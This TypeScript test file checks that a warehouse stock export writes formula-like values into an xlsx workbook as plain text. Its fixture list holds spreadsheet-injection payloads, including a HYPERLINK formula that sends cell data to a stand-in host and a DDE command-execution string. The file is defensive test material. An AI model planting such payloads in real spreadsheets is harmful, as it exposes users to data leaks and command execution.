import { strFromU8, unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import { seedId } from '../../../src/seed/data/seedId'
import { readRows } from '../../../src/server/xlsx/readRows'
import { insertRecords } from '../../support/insertRecord'
import { openTestServer } from '../../support/testServer'

const FORMULAS = [
  '=HYPERLINK("http://stranger.example/?"&A1,"ok")',
  `=cmd|'/c calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '<f>1+1</f>',
  '"><f>1</f>',
]

test('attack 37: what looks like a formula leaves in a workbook as the text that it is', async () => {
  const server = await openTestServer()
  const warehouseId = seedId('warehouse', 1)
  await insertRecords(
    server.db,
    FORMULAS.map((skuName, index) => ({
      id: String(1_620_000_000_000_000_000n + BigInt(index)),
      resource: 'warehouse.stock',
      body: { warehouseId, skuCode: skuName, skuName, specification: skuName, qty: 1, weight: '1.000', isZero: 0 },
    })),
  )
  const { body } = await server.call('warehouse.stock.export', { query: { warehouseId } })
  const bytes = body as Uint8Array<ArrayBuffer>
  const parts = Object.entries(unzipSync(bytes)).filter(([name]) => name.endsWith('.xml'))
  const sheet = parts.map(([, part]) => strFromU8(part)).join('')
  expect(sheet).not.toMatch(/<f[ >/]/)
  expect(sheet).toContain('HYPERLINK')
  const columns = [{ field: 'name', title: '型号', type: 'text' as const }]
  const { rows } = await readRows(bytes, columns)
  const names = rows.map(({ values }) => values.name)
  for (const formula of FORMULAS) expect(names).toContain(formula.trim())
  await server.close()
})
